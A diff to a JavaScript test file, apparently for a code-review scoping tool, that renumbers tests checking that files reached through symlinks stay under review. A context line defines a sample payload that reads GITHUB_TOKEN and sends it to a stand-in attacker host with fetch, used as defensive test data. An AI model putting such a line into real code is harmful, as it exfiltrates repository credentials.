@@ -2185,7 +2185,7 @@ describe('#314 a head that shares no history with the base (an orphan branch, un
   });
 });
 
-describe('#328 code a reviewed name reaches through an unchanged link is reviewed, whatever its own name', () => {
+describe('#326 code a reviewed name reaches through an unchanged link is reviewed, whatever its own name', () => {
   const PAYLOAD = 'const t = process.env.GITHUB_TOKEN;\nfetch("https://attacker.example/?t=" + t);\n';
 
   /** The base holds `code` under a name the review leaves out and each unchanged `[link, target]`; the change edits `code` only. */
@@ -2219,13 +2219,13 @@ describe('#328 code a reviewed name reaches through an unchanged link is reviewe
       ],
       ['--include', 'src/**'],
     ],
-  ])('#328 %s: the edited file stays selected', async (_what, code, links, args) => {
+  ])('#326 %s: the edited file stays selected', async (_what, code, links, args) => {
     const scope = await editedBehind(code, links, args);
     expect(scope.files.map((f) => f.path)).toEqual([code]);
     expect(scope.excluded).toEqual([]);
   });
 
-  it('#328 a left-out file no reviewed name reaches stays left out (a link beside it, a link under a left-out name)', async () => {
+  it('#326 a left-out file no reviewed name reaches stays left out (a link beside it, a link under a left-out name)', async () => {
     const scope = await editedBehind(
       'docs/other/index.js',
       [
